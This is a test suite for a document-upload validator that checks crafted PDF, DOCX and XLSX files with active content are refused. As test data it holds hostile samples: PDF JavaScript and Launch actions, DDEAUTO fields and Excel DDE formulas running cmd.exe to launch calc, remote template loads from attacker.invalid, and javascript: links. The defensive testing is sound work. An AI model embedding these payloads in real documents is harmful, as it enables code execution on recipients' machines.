            Buffer.alloc(Math.max(0, i + columns - b.length)),
          ]),
        )
      return deflateSync(Buffer.concat(rows))
    }
    await refusedPdf(
      pdfWith('/OpenAction 6 0 R', [
        objStm([js], 6, {
          encode: png,
          filter: '/Filter [/FlateDecode] /DecodeParms [<< /Predictor 12 /Columns 4 >>]',
        }),
      ]),
      'JavaScript',
    )
    await refusedPdf(
      pdfWith('', [
        objStm(['<< /S /Launch /F (x) >>'], 6, {
          encode: (b) => Buffer.from(`${deflateSync(b).toString('hex')}>`),
          filter: '/Filter [/ASCIIHexDecode /FlateDecode]',
        }),
      ]),
      'Launch',
    )
    // An automatic URI resolved through an object stream: the catalog points into it.
    await refusedPdf(pdfWith('/OpenAction 6 0 R', [objStm(['<< /S /URI /URI (https://x.invalid) >>'], 6)]), '/URI')
  })

  it('refuses object streams it cannot read: an unknown filter, an encrypted file, corrupt data', async () => {
    await refusedPdf(
      pdfWith('', [objStm(['<< /Type /Foo >>'], 6, { encode: (b) => b, filter: '/Filter /LZWDecode' })]),
      'không kiểm tra được',
      'uninspectable',
    )
    const encrypted = Buffer.concat([
      pdfWith('', [objStm(['<< /Type /Foo >>'], 6)]),
      Buffer.from('trailer\n<< /Size 8 /Root 1 0 R /Encrypt << /Filter /Standard /V 2 >> >>\n', 'latin1'),
    ])
    await refusedPdf(encrypted, 'không kiểm tra được', 'uninspectable')
    await refusedPdf(
      pdfWith('', [objStm(['<< /Type /Foo >>'], 6, { encode: (b) => Buffer.concat([Buffer.from([0x78, 0x9c]), b]) })]),
      'không kiểm tra được',
      'uninspectable',
    )
  })

  it('finds an action added by an incremental update', async () => {
    const base = makePlainPdf()
    const update = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>\nendobj\n9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 10 /Root 1 0 R /Prev 0 >>\nstartxref\n${base.length}\n%%EOF\n`
    await refusedPdf(Buffer.concat([base, Buffer.from(update, 'latin1')]), 'JavaScript')
  })

  it('finds an object hidden inside another object’s stream data or string, and headers split by comments or long spaces', async () => {
    // A reader jumps to the xref offset of object 9, which lies inside object 6's stream.
    const hiddenInStream = streamObj(
      '',
      Buffer.from('9 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj', 'latin1'),
    )
    await refusedPdf(pdfWith('/OpenAction 9 0 R', [hiddenInStream]), 'JavaScript')
    await refusedPdf(pdfWith('/OpenAction 9 0 R', ['<< /Title (9 0 obj << /S /Launch /F (x) >> endobj) >>']), 'Launch')
    await refusedPdf(
      pdfWith('/OpenAction 9 0 R', [`<< /Type /Foo >>\nendobj\n9 %c\n0 % more\nobj << /S /ImportData /F (x) >>`]),
      'ImportData',
    )
    await refusedPdf(
      pdfWith('/OpenAction 9 0 R', [
        `<< /Type /Foo >>\nendobj\n9${' '.repeat(5000)}0${'\n'.repeat(5000)}obj << /S /SubmitForm /F (x) >>`,
      ]),
      'SubmitForm',
    )
  })

  it('refuses pathological nesting quickly', async () => {
    const deep = pdfWith('', [`${'['.repeat(10_000)}${']'.repeat(10_000)}`])
    const t0 = performance.now()
    await refusedPdf(deep, 'không kiểm tra được', 'uninspectable')
    expect(performance.now() - t0).toBeLessThan(1000)
  })
}

/** Ordinary PDFs still pass. */
const pdfOrdinaryTests = () => {
  it('accepts ordinary PDFs: the demo documents, a destination open action, a clicked https/mailto link, an image that happens to hold "/JS"', async () => {
    await expect(
      validateUpload(
        pdfUpload(makeDemoPdf(['Quyết định số 12/QĐ-UBND', 'Về việc công bố thủ tục hành chính (bản thử)'])),
      ),
    ).resolves.toMatchObject({ kind: 'pdf' })
    await expect(
      validateUpload(pdfUpload(pdfWith('/OpenAction [3 0 R /XYZ null null 0] /PageMode /UseOutlines'))),
    ).resolves.toMatchObject({ kind: 'pdf' })
    await expect(
      validateUpload(pdfUpload(pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'))),
    ).resolves.toMatchObject({
      kind: 'pdf',
    })
    const links = pdfWithAnnots([
      '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (mailto:vanphong@angiang.gov.vn) >> >>',
      '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /Dest [3 0 R /Fit] >>',
    ])
    await expect(validateUpload(pdfUpload(links))).resolves.toMatchObject({ kind: 'pdf' })
    const harmlessObjStm = objStm(['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'], 6, {
      filter: '/Filter [/FlateDecode] /DecodeParms [null]',
    })
    await expect(validateUpload(pdfUpload(pdfWith('', [harmlessObjStm])))).resolves.toMatchObject({ kind: 'pdf' })
  })
}

describe('validateUpload: PDF active content, every class', () => {
  for (const [action, named] of PDF_ACTIONS) {
    it(`refuses a ${named} action as the open action, plain and hex-escaped`, async () => {
      await refusedPdf(pdfWith('/OpenAction 6 0 R', [action]), named)
      const escaped = action.replace(/\/S \/(\w+)/, (_, n: string) => `/S ${hexName(n)}`)
      await refusedPdf(pdfWith('/OpenAction 6 0 R', [escaped]), named)
    })
  }

  pdfLinkAndFeatureTests()
  pdfHiddenActionTests()
  pdfOrdinaryTests()
})

const REL = (id: string, type: string, target: string, external = false) =>
  `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`
const rels = (...list: string[]) => `${RELS}${list.join('')}</Relationships>`
const wordBody = (inner: string) =>
  `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p>${inner}</w:p></w:body></w:document>`
const run = (instr: string) => `<w:r><w:instrText xml:space="preserve">${instr}</w:instrText></w:r>`
const field = (...instrs: string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${instrs.map(run).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
const sheet = (cells: string) =>
  `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${cells}</row></sheetData></worksheet>`

const docxUpload = (buffer: Buffer) => ({ buffer, filename: 'van-ban.docx', mimetype: ALLOWED_UPLOADS.docx.mimeType })
const xlsxUpload = (buffer: Buffer) => ({ buffer, filename: 'bang.xlsx', mimetype: ALLOWED_UPLOADS.xlsx.mimeType })
const refusedOffice = async (
  input: UploadInput,
  named: string,
  code: UploadRejectionCode = 'office-active-content',
) => {
  const err = await expectRejected(input, code)
  expect(err.messageVi).toMatch(/^Tệp tải lên: (tệp (DOCX|XLSX) chứa|không kiểm tra được)/)
  expect(err.messageVi).toContain(named)
  return err
}

/** Macros, however they are named. */
const officeMacroTests = () => {
  it('refuses macros however they are named: vbaProject, a macro-enabled content type, percent-encoded names, Excel 4.0 sheets', async () => {
    await refusedOffice(
      docxUpload(makeDocx({ 'word/vbaProject.bin': 'VBA' }, { deflate: true })),
      'macro',
      'office-macros',
    )
    await refusedOffice(docxUpload(makeDocx({ 'word/v%62aProject.bin': 'VBA' })), 'macro', 'office-macros')
    const macroType = makeDocx({
      '[Content_Types].xml': `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`,
    })
    await refusedOffice(docxUpload(macroType), 'macro', 'office-macros')
    await refusedOffice(
      docxUpload(
        makeDocx({
          'word/_rels/document.xml.rels': rels(
            `<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="hidden.dat"/>`,
          ),
        }),
      ),
      'macro',
      'office-macros',
    )
    await refusedOffice(
      xlsxUpload(makeXlsx({ 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' })),
      'macro',
      'office-macros',
    )
  })
}

/** External templates and other external loads. */
const officeExternalLoadTests = () => {
  it('refuses an external template (attachedTemplate, also with an odd TargetMode case) and other external loads', async () => {
    await refusedOffice(
      docxUpload(
        makeDocx({
          'word/_rels/settings.xml.rels': rels(
            REL('rId1', 'attachedTemplate', 'https://attacker.invalid/t.dotm', true),
          ),
        }),
      ),
      'mẫu (template)',
    )
    await refusedOffice(
      docxUpload(
        makeDocx({
          'word/_rels/settings.xml.rels': rels(
            REL('rId1', 'attachedTemplate', 'file://attacker.invalid/share/t.dotm').replace(
              '/>',
              ' TargetMode="external"/>',
            ),
          ),
        }),
      ),
      'mẫu (template)',
    )
    await refusedOffice(
      docxUpload(
        makeDocx({
          'word/_rels/settings.xml.rels': rels(REL('rId1', 'attachedTemplate', '\\\\attacker\\share\\t.dotm', true)),
        }),
      ),
      'mẫu (template)',
    )
    await refusedOffice(
      docxUpload(
        makeDocx({
          'word/_rels/settings.xml.rels': rels(REL('rId1', 'attachedTemplate', 'file:///C://attacker/t.dotm', true)),
        }),
      ),
      'mẫu (template)',
    )
    // The template an office document was made from, on the author's own disk: nothing to fetch.
    for (const local of ['file:///C:\\Users\\vanthu\\Templates\\Mau-cong-van.dotx', 'D:\\Mau\\cong-van.dotx']) {
      await expect(
        validateUpload(
          docxUpload(makeDocx({ 'word/_rels/settings.xml.rels': rels(REL('rId1', 'attachedTemplate', local, true)) })),
        ),
      ).resolves.toMatchObject({ kind: 'docx' })
    }
    await refusedOffice(
      docxUpload(
        makeDocx({
          'word/_rels/webSettings.xml.rels': rels(REL('rId1', 'frame', 'https://attacker.invalid/f.docx', true)),
        }),
      ),
      'frame',
    )
    await refusedOffice(
      docxUpload(
        makeDocx({
          'word/_rels/document.xml.rels': rels(REL('rId1', 'subDocument', '\\\\attacker\\share\\s.docx', true)),
        }),
      ),
      'subDocument',
    )
    await refusedOffice(
      docxUpload(
        makeDocx({
          'word/_rels/document.xml.rels': rels(REL('rId1', 'image', 'https://tracker.invalid/pixel.png', true)),
        }),
      ),
      'bên ngoài (image)',
    )
    await refusedOffice(
      docxUpload(makeDocx({ 'word/_rels/document.xml.rels': rels(REL('rId1', 'aFChunk', 'chunk.rtf')) })),
      'altChunk',
    )
  })
}

/** Embedded objects, external links, DDE and hyperlinks. */
const officeEmbeddedAndLinkTests = () => {
  it('refuses OLE objects, ActiveX and embedded programs in DOCX and XLSX', async () => {
    await refusedOffice(
      docxUpload(makeDocx({ 'word/embeddings/oleObject1.bin': Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) })),
      'đối tượng nhúng',
    )
    await refusedOffice(docxUpload(makeDocx({ 'word/embeddings/setup.exe': 'MZ' })), 'đối tượng nhúng')
    await refusedOffice(docxUpload(makeDocx({ 'word/activeX/activeX1.xml': '<ax:ocx/>' })), 'ActiveX')
    await refusedOffice(
      docxUpload(makeDocx({ 'word/_rels/document.xml.rels': rels(REL('rId5', 'oleObject', 'embeddings/x.dat')) })),
      'OLE',
    )
    await refusedOffice(xlsxUpload(makeXlsx({ 'xl/embeddings/oleObject1.bin': 'OLE' })), 'đối tượng nhúng')
    await refusedOffice(xlsxUpload(makeXlsx({ 'xl/activeX/activeX1.bin': 'AX' })), 'ActiveX')
    await refusedOffice(
      xlsxUpload(makeXlsx({ 'xl/_rels/workbook.xml.rels': rels(REL('rId3', 'control', '../activeX/a.xml')) })),
      'ActiveX',
    )
  })

  it('refuses external workbook links, data connections, web queries and customUI in XLSX', async () => {
    await refusedOffice(
      xlsxUpload(
        makeXlsx({
          'xl/externalLinks/externalLink1.xml':
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        }),
      ),
      'bên ngoài',
    )
    await refusedOffice(xlsxUpload(makeXlsx({ 'xl/connections.xml': '<connections/>' })), 'kết nối dữ liệu')
    await refusedOffice(xlsxUpload(makeXlsx({ 'xl/queryTables/queryTable1.xml': '<queryTable/>' })), 'truy vấn')
    await refusedOffice(xlsxUpload(makeXlsx({ 'customUI/customUI14.xml': '<customUI onLoad="Boom"/>' })), 'customUI')
  })

  it('refuses DDE fields: DDEAUTO, split over runs, in fldSimple, behind entities, CDATA and UTF-16', async () => {
    const ddeDoc = (xml: string | Buffer) => docxUpload(makeDocx({ 'word/document.xml': xml }))
    await refusedOffice(ddeDoc(wordBody(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))), 'DDE')
    await refusedOffice(ddeDoc(wordBody(field(' D', 'DE', 'AUTO "c:\\\\x.exe" '))), 'DDE')
    await refusedOffice(
      ddeDoc(wordBody(`<w:fldSimple w:instr=" DDE cmd &quot;/c calc&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>`)),
      'DDE',
    )
    await refusedOffice(ddeDoc(wordBody(field('&#68;&#x44;E cmd "/c calc"'))), 'DDE')
    await refusedOffice(ddeDoc(wordBody(field('<![CDATA[ddeauto]]> cmd'))), 'DDE')
    const utf16 = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(wordBody(field('DDEAUTO cmd')).replace('UTF-8', 'UTF-16'), 'utf16le'),
    ])
    await refusedOffice(ddeDoc(utf16), 'DDE')
    await refusedOffice(docxUpload(makeDocx({ 'word/header1.xml': wordBody(field('DDE cmd')) })), 'DDE')
  })

  it('refuses DDE formulas in XLSX cells and defined names', async () => {
    await refusedOffice(
      xlsxUpload(makeXlsx({ 'xl/worksheets/sheet1.xml': sheet(`<c r="A1"><f>cmd|' /C calc'!A0</f></c>`) })),
      'DDE',
    )
    await refusedOffice(
      xlsxUpload(
        makeXlsx({
          'xl/worksheets/sheet1.xml': sheet(
            `<c r="A1"><f>=MSEXCEL&#124;'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</f></c>`,
          ),
        }),
      ),
      'DDE',
    )
    const workbook = `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="x">cmd|'/c calc'!A1</definedName></definedNames></workbook>`
    await refusedOffice(xlsxUpload(makeXlsx({ 'xl/workbook.xml': workbook })), 'DDE')
  })

  it('refuses hyperlinks to file:, javascript: or UNC paths', async () => {
    for (const target of [
      'file:///C:/Windows/System32/calc.exe',
      'javascript:alert(1)',
      '\\\\attacker\\share\\x',
      ' &#106;avascript:alert(1)',
    ]) {
      await refusedOffice(
        docxUpload(makeDocx({ 'word/_rels/document.xml.rels': rels(REL('rId7', 'hyperlink', target, true)) })),
        'liên kết không an toàn',
      )
    }
  })
}

/** Embedded packages, unreadable documents, and ordinary ones. */
const officeNestedAndOrdinaryTests = () => {
  it('checks embedded packages too (a chart’s workbook carrying macros), one level deep', async () => {
    await refusedOffice(
      docxUpload(
        makeDocx({ 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': makeXlsx({ 'xl/vbaProject.bin': 'VBA' }) }),
      ),
      'trong một tài liệu nhúng',
      'office-macros',
    )
    const nested = makeXlsx({ 'xl/embeddings/inner.docx': makeDocx() })
    await refusedOffice(docxUpload(makeDocx({ 'word/embeddings/outer.xlsx': nested })), 'đối tượng nhúng')
  })

  it('refuses what it cannot read: a legacy .doc/.xls (OLE) renamed .docx, duplicate parts, a bomb part', async () => {
    const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)])
    const err = await expectRejected(docxUpload(ole), 'office-legacy')
    expect(err.messageVi).toMatch(/^Tệp tải lên: tệp Office định dạng cũ \(\.doc, \.xls\)/)
    await expectRejected(xlsxUpload(ole), 'office-legacy')
    const dup = makeZip({
      '[Content_Types].xml': '<Types/>',
      'word/document.xml': wordBody(''),
      'word/Document.xml': wordBody(field('DDEAUTO x')),
    })
    await refusedOffice(docxUpload(dup), 'cùng tên', 'uninspectable')
    const bomb = makeDocx({ 'word/document.xml': Buffer.alloc(130 * 1024 * 1024, 0x20) }, { deflate: true })
    expect(bomb.length).toBeLessThan(1024 * 1024)
    await refusedOffice(docxUpload(bomb), 'không đọc được', 'uninspectable')
  })

  it('accepts ordinary documents: hyperlinks, a HYPERLINK field, a chart’s workbook, formulas with "|" inside strings, printer settings', async () => {
    const ordinary = makeDocx(
      {
        'word/document.xml': wordBody(
          `${field(' HYPERLINK "https://angiang.gov.vn/dde" ')}${field(' PAGE ')}<w:fldSimple w:instr=" DATE \\@ &quot;dd/MM/yyyy&quot; "/>`,
        ),
        'word/_rels/document.xml.rels': rels(
          REL('rId1', 'hyperlink', 'https://dichvucong.gov.vn/', true),
          REL('rId2', 'hyperlink', 'mailto:ubnd@angiang.gov.vn', true),
          REL('rId3', 'image', 'media/image1.png'),
          REL('rId4', 'chart', 'charts/chart1.xml'),
        ),
        'word/charts/_rels/chart1.xml.rels': rels(
          REL('rId1', 'package', '../embeddings/Microsoft_Excel_Worksheet.xlsx'),
        ),
        'word/embeddings/Microsoft_Excel_Worksheet.xlsx': makeXlsx(),
        'word/printerSettings/printerSettings1.bin': Buffer.alloc(64, 1),
      },
      { deflate: true },
    )
    await expect(validateUpload(docxUpload(ordinary))).resolves.toMatchObject({ kind: 'docx' })
    const formulas = makeXlsx({
      'xl/worksheets/sheet1.xml': sheet(
        `<c r="A1"><f>SUM(B1:B3)</f></c><c r="A2"><f>CONCAT("a|b","c")</f></c><c r="A3"><f>'Thu|Chi'!A1</f></c>`,
      ),
      'xl/printerSettings/printerSettings1.bin': 'P',
    })
    await expect(validateUpload(xlsxUpload(formulas))).resolves.toMatchObject({ kind: 'xlsx' })
  })
}

describe('validateUpload: Office active content, every class', () => {
  officeMacroTests()
  officeExternalLoadTests()
  officeEmbeddedAndLinkTests()
  officeNestedAndOrdinaryTests()
})
